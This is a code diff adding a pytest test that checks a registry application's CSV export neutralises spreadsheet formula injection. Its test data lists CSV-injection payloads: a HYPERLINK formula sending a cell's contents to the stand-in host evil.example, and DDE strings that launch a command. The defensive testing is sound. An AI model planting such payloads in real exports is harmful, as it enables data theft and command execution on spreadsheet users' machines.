@@ -164,3 +164,40 @@ def test_the_chain_covers_the_scans_hashes(circuit, people):
         entry.documents = [{**entry.documents[0], "sha256": "0" * 64}]
         assert registry.entry_digest(entry) != honest
         s.rollback()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
+
+
+def test_csv_export_neutralises_formulas_and_keeps_numbers(
+    client, api_for, browser_for, circuit, people
+):
+    from tests.test_registry import counter_petition
+
+    registry_h = api_for("registry")
+    for subject in FORMULAS:
+        r = counter_petition(client, registry_h, subject=subject, summary=subject)
+        assert r.status_code == 201, r.get_json()
+    with circuit.db.transaction() as s:  # an issuer as the engine takes it, tab included
+        registry.register(s, direction="in", issuer="\t=1+1", summary="-5", channel="post")
+    today = local_today().isoformat()
+    api = client.get(f"/api/v1/registry/export?from={today}&to={today}", headers=registry_h)
+    web = browser_for("registry").get(f"/registratura/export?de_la={today}&pana_la={today}")
+    for r in (api, web):
+        assert r.status_code == 200 and r.mimetype == "text/csv"
+        raw = r.get_data().decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(raw), delimiter=";"))[1:]
+        assert [row[8] for row in rows] == ["'" + f for f in FORMULAS] + ["-5"]
+        assert rows[-1][7] == "'\t=1+1"
+        for row in rows:  # no cell opens a formula in a spreadsheet
+            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+            assert not any(cell.startswith("-") and cell != "-5" for cell in row)
+        lines = raw.split("\r\n")
+        assert lines[1].startswith('1;"') and lines[5].startswith('5;"'), "numbers stay numbers"
+        assert f'"\'{FORMULAS[0].replace(chr(34), chr(34) * 2)}"' in lines[1], "cells quoted"
+        assert ';2;1;"' in lines[1], "pages and annexes stay numbers"
